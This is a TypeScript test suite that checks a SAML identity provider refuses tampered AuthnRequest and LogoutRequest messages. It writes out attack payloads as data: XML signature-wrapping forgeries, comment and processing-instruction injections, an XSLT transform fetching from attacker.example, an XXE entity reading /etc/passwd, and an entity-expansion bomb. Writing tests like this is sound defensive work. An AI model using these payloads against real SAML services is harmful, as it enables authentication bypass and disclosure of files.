/**
 * The attack cases of the bridge's Response suite (test/saml/bridge-attacks), made against what
 * SPs send the IdP: AuthnRequest and LogoutRequest, XML-signed over HTTP-POST and query-signed
 * over HTTP-Redirect. Every request is signed by xmlsec1 with the relying party's real key (or
 * a stranger's), then edited the way an attacker would, and posted to a running host. Each must
 * be refused by the SAML core's checks with the IdP's error page (no SAMLResponse, no stack),
 * one audit record naming the reason, and a log line without the message.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TestBrowser } from '../../support/http-client.js';
import { redirectQuery, rpConfig, spIdentity, spKeys, startIdp, type IdpHost } from '../../adapters/saml-idp/support.js';
import { ALG, replaceOnce, requestId, requestXml, signatureOf, signedRequest, withoutSignature, type RequestKind, type RequestSpec } from './support/signed-request.js';

const rp = spIdentity('attacked-app');
const stranger = spKeys('stranger-app');
const XSLT = 'http://www.w3.org/TR/1999/REC-xslt-19991116';
let idp: IdpHost;

beforeAll(async () => {
  idp = await startIdp({ relyingParties: [rpConfig(rp, { requireSignedRequests: true, acs: [{ url: rp.acs }, { url: `${rp.acs}/2` }] })] });
});
afterAll(async () => {
  await idp.close();
});

const endpoint = (kind: RequestKind) => (kind === 'AuthnRequest' ? '/saml/idp/sso' : '/saml/idp/slo');

function spec(kind: RequestKind, overrides: Partial<RequestSpec> = {}): RequestSpec {
  return { kind, id: requestId(), issuer: rp.entityId, destination: `${idp.url}${endpoint(kind)}`, instant: idp.clock.now(), acs: rp.acs, nameId: 'alice@example.com', ...overrides };
}

/** What an attacker wants changed: the ACS the assertion goes to (a second one the RP registered), or whom to log out. */
function makeEvil(kind: RequestKind, xml: string): string {
  return kind === 'AuthnRequest' ? replaceOnce(xml, `AssertionConsumerServiceURL="${rp.acs}"`, `AssertionConsumerServiceURL="${rp.acs}/2"`) : replaceOnce(xml, '>alice@example.com<', '>mallory@example.com<');
}

function withId(xml: string, from: string, to: string): string {
  return replaceOnce(xml, `ID="${from}"`, `ID="${to}"`);
}

/** Where the Issuer ends: SAML puts the enveloped Signature right after it (Core §5.4.1 and the schemas). */
const AFTER_ISSUER = /<\/saml:Issuer>/;

async function post(kind: RequestKind, xml: string): Promise<Response> {
  return new TestBrowser(idp.url).post(endpoint(kind), { SAMLRequest: Buffer.from(xml, 'utf8').toString('base64'), RelayState: 'rs' });
}

async function expectRefused(send: () => Promise<Response>, reason: string, words?: RegExp, named = true): Promise<void> {
  const before = (await idp.auditRows()).length;
  const res = await send();
  const html = await res.text();
  expect(res.status, html.slice(0, 300)).toBeGreaterThanOrEqual(400);
  expect(res.status).toBeLessThan(500);
  expect(html).not.toContain('SAMLResponse');
  // Never a stack trace or an internal error on the page.
  expect(html).not.toMatch(/\n\s+at \S|Error:|TypeError/);
  if (words) expect(html).toMatch(words);
  const rows = await idp.auditRows();
  expect(rows.length).toBe(before + 1);
  expect(rows.at(-1)).toMatchObject({ event: 'saml-request', result: 'denied', deny_reason: reason, relying_party: named ? rp.name : null });
  const logged = idp.logs.filter((l) => l.includes('SAML request refused')).at(-1) ?? '';
  expect(logged).toContain(`"reason":"${reason}"`);
  expect(logged).not.toMatch(/SAMLRequest|<samlp:|Signature>/);
}

async function expectAccepted(send: () => Promise<Response>): Promise<void> {
  const before = (await idp.auditRows()).filter((r) => r.result === 'denied').length;
  const res = await send();
  expect(res.status, (await res.text()).slice(0, 300)).toBeLessThan(400);
  expect((await idp.auditRows()).filter((r) => r.result === 'denied').length).toBe(before);
}

describe.each(['AuthnRequest', 'LogoutRequest'] as const)('%s over HTTP-POST with an enveloped signature', (kind) => {
  const signed = (overrides: Partial<RequestSpec> = {}) => signedRequest(spec(kind, overrides), rp.keys);

  it('passes when signed by the relying party with RSA-SHA256 (the baseline every attack starts from)', async () => {
    await expectAccepted(async () => post(kind, await signed()));
  });

  describe('signature wrapping', () => {
    it('a forged request carrying the signature, with the signed original hidden in Extensions', async () => {
      const original = await signed();
      const id = /ID="([^"]+)"/.exec(original)![1]!;
      const forged = replaceOnce(withId(makeEvil(kind, withoutSignature(original)), id, '_evil'), AFTER_ISSUER, `</saml:Issuer>${signatureOf(original)}<samlp:Extensions>${original}</samlp:Extensions>`);
      await expectRefused(() => post(kind, forged), 'SIGNATURE_WRAPPING', new RegExp(`a second ${kind} at /${kind}/Extensions/${kind}`));
    });

    it('the signed request edited in place, with an unsigned copy of the original in a ds:Object of its Signature', async () => {
      const original = await signed();
      const forged = replaceOnce(makeEvil(kind, original), '</ds:Signature>', `<ds:Object>${withoutSignature(original)}</ds:Object></ds:Signature>`);
      await expectRefused(() => post(kind, forged), 'SIGNATURE_WRAPPING', /Signature\/Object/);
    });

    it('a forged request that contains the signed original as its last child', async () => {
      const original = await signed();
      const id = /ID="([^"]+)"/.exec(original)![1]!;
      const evil = withId(makeEvil(kind, withoutSignature(original)), id, '_evil');
      const forged = replaceOnce(replaceOnce(evil, AFTER_ISSUER, `</saml:Issuer>${signatureOf(original)}`), `</samlp:${kind}>`, `${original}</samlp:${kind}>`);
      await expectRefused(() => post(kind, forged), 'SIGNATURE_WRAPPING', new RegExp(`a second ${kind}`));
    });

    it('the Signature moved out of the request into Extensions', async () => {
      const original = await signed();
      const moved = replaceOnce(withoutSignature(original), AFTER_ISSUER, `</saml:Issuer><samlp:Extensions>${signatureOf(original)}</samlp:Extensions>`);
      await expectRefused(() => post(kind, moved), 'SIGNATURE_WRAPPING', /a Signature at \S*Extensions\/Signature/);
    });

    it('two Signatures on the request', async () => {
      const original = await signed();
      await expectRefused(() => post(kind, replaceOnce(original, '</ds:Signature>', `</ds:Signature>${signatureOf(original)}`)), 'SIGNATURE_WRAPPING', /2 Signatures/);
    });

    it('a second element answering to the signed ID, as ID and as Id', async () => {
      const original = await signed();
      const id = /ID="([^"]+)"/.exec(original)![1]!;
      for (const attribute of ['ID', 'Id']) {
        const duplicate = replaceOnce(original, `</samlp:${kind}>`, `<samlp:Extensions><x ${attribute}="${id}">x</x></samlp:Extensions></samlp:${kind}>`);
        await expectRefused(() => post(kind, duplicate), 'SIGNATURE_WRAPPING', /duplicate ID/);
      }
    });
  });

  describe('comments and processing instructions', () => {
    it('a comment inside a signed value, which exclusive C14N drops so the signature still verifies', async () => {
      const original = await signed();
      const split = kind === 'AuthnRequest' ? replaceOnce(original, `>${rp.entityId}<`, `>${rp.entityId.slice(0, 12)}<!---->${rp.entityId.slice(12)}<`) : replaceOnce(original, '>alice@example.com<', '>alice@example.com<!---->.evil.example<');
      await expectRefused(() => post(kind, split), 'COMMENT', /a comment inside/);
    });

    it('a processing instruction inside the request', async () => {
      const original = await signed();
      await expectRefused(() => post(kind, replaceOnce(original, AFTER_ISSUER, '</saml:Issuer><?evil x?>')), 'COMMENT', /a processing instruction inside/);
    });
  });

  describe('transforms and algorithms', () => {
    it('an XSLT transform in the Reference (ds: prefix), refused before anything runs', async () => {
      const original = await signed();
      const xslt = `<ds:Transform Algorithm="${XSLT}"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"><xsl:copy-of select="document('http://attacker.example/x')"/></xsl:template></xsl:stylesheet></ds:Transform>`;
      await expectRefused(() => post(kind, replaceOnce(original, `<ds:Transform Algorithm="${ALG.excC14n}"/>`, `${xslt}<ds:Transform Algorithm="${ALG.excC14n}"/>`)), 'SIGNATURE_TRANSFORM', /not enveloped-signature \+ exclusive C14N/);
    });

    it('an XSLT transform under another prefix bound to the XML-DSig namespace', async () => {
      const original = await signed();
      const xslt = `<dsig:Transform xmlns:dsig="http://www.w3.org/2000/09/xmldsig#" Algorithm="${XSLT}"/>`;
      await expectRefused(() => post(kind, replaceOnce(original, `<ds:Transform Algorithm="${ALG.excC14n}"/>`, `${xslt}<ds:Transform Algorithm="${ALG.excC14n}"/>`)), 'SIGNATURE_TRANSFORM', /xslt/);
    });

    it('inclusive C14N, though the signature made with it verifies', async () => {
      await expectRefused(async () => post(kind, await signed({ canonicalization: ALG.c14n })), 'SIGNATURE_TRANSFORM', /not exclusive C14N/);
    });

    it('RSA-SHA1, and a SHA-1 digest under RSA-SHA256', async () => {
      await expectRefused(async () => post(kind, await signed({ signatureMethod: ALG.rsaSha1 })), 'WEAK_ALGORITHM', /\(SHA-1\)/);
      await expectRefused(async () => post(kind, await signed({ digestMethod: ALG.sha1 })), 'WEAK_ALGORITHM', /digest is SHA-1/);
    });
  });

  describe('keys and content', () => {
    it('a stranger’s signature with the stranger’s certificate in KeyInfo', async () => {
      await expectRefused(async () => post(kind, await signedRequest(spec(kind), stranger)), 'SIGNATURE_INVALID', /no pinned certificate verifies/);
    });

    it('the signed content changed after signing', async () => {
      const original = await signed();
      await expectRefused(() => post(kind, makeEvil(kind, original)), 'SIGNATURE_INVALID', /digest does not match/);
    });

    it('an unsigned request from a relying party that must sign', async () => {
      await expectRefused(() => post(kind, requestXml(spec(kind), false)), 'SIGNATURE_REQUIRED', /not signed/);
    });
  });

  describe('DOCTYPE', () => {
    it('an external entity (XXE) and an entity expansion, refused before parsing', async () => {
      const original = await signed();
      const xxe = `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${replaceOnce(original, `>${rp.entityId}<`, '>&x;<')}`;
      await expectRefused(() => post(kind, xxe), 'DOCTYPE', /DOCTYPE/, false);
      const laughs = `<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>${replaceOnce(original, `>${rp.entityId}<`, '>&b;<')}`;
      await expectRefused(() => post(kind, laughs), 'DOCTYPE', /DOCTYPE/, false);
    });
  });
});

describe.each(['AuthnRequest', 'LogoutRequest'] as const)('%s over HTTP-Redirect with a query signature', (kind) => {
  const RSA_SHA256 = { keyPem: rp.keys.keyPem, alg: 'sha256' as const, uri: ALG.rsaSha256 };
  const get = (query: string) => new TestBrowser(idp.url).get(`${endpoint(kind)}?${query}`);
  const unsigned = () => requestXml(spec(kind), false);

  it('passes when the query is signed by the relying party with RSA-SHA256 (the baseline)', async () => {
    await expectAccepted(() => get(redirectQuery(unsigned(), { relayState: 'rs', sign: RSA_SHA256 })));
  });

  it('RSA-SHA1, though made with the relying party’s key', async () => {
    await expectRefused(() => get(redirectQuery(unsigned(), { sign: { keyPem: rp.keys.keyPem, alg: 'sha1', uri: ALG.rsaSha1 } })), 'WEAK_ALGORITHM', /\(SHA-1\)/);
  });

  it('an algorithm outside the allowlist', async () => {
    await expectRefused(() => get(redirectQuery(unsigned(), { sign: { ...RSA_SHA256, uri: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha384' } })), 'WEAK_ALGORITHM', /not accepted/);
  });

  it('a stranger’s key, and a RelayState changed after signing', async () => {
    await expectRefused(() => get(redirectQuery(unsigned(), { sign: { ...RSA_SHA256, keyPem: stranger.keyPem } })), 'SIGNATURE_INVALID', /no pinned certificate verifies/);
    const tampered = redirectQuery(unsigned(), { relayState: 'rs', sign: RSA_SHA256 }).replace('RelayState=rs', 'RelayState=other');
    await expectRefused(() => get(tampered), 'SIGNATURE_INVALID', /no pinned certificate verifies/);
  });

  it('an XML signature inside a redirect-binding message', async () => {
    const xml = await signedRequest(spec(kind), rp.keys);
    await expectRefused(() => get(redirectQuery(xml, { sign: RSA_SHA256 })), 'SIGNATURE_INVALID', /must not carry an XML signature/);
  });

  it('a second request nested inside, and a duplicate ID, even under a valid query signature', async () => {
    const outer = spec(kind);
    const nested = replaceOnce(requestXml(outer, false), AFTER_ISSUER, `</saml:Issuer><samlp:Extensions>${makeEvil(kind, requestXml(spec(kind), false))}</samlp:Extensions>`);
    await expectRefused(() => get(redirectQuery(nested, { sign: RSA_SHA256 })), 'SIGNATURE_WRAPPING', new RegExp(`a second ${kind}`));
    const duplicate = replaceOnce(requestXml(outer, false), AFTER_ISSUER, `</saml:Issuer><samlp:Extensions><x id="${outer.id}"/></samlp:Extensions>`);
    await expectRefused(() => get(redirectQuery(duplicate, { sign: RSA_SHA256 })), 'SIGNATURE_WRAPPING', /duplicate ID/);
  });

  it('a comment inside a value, under a valid query signature', async () => {
    const xml = replaceOnce(unsigned(), `>${rp.entityId}<`, `>${rp.entityId}<!-- x --><`);
    await expectRefused(() => get(redirectQuery(xml, { sign: RSA_SHA256 })), 'COMMENT', /a comment inside Issuer/);
  });

  it('a DOCTYPE', async () => {
    const xml = `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${replaceOnce(unsigned(), `>${rp.entityId}<`, '>&x;<')}`;
    await expectRefused(() => get(redirectQuery(xml, { sign: RSA_SHA256 })), 'DOCTYPE', /DOCTYPE/, false);
  });
});
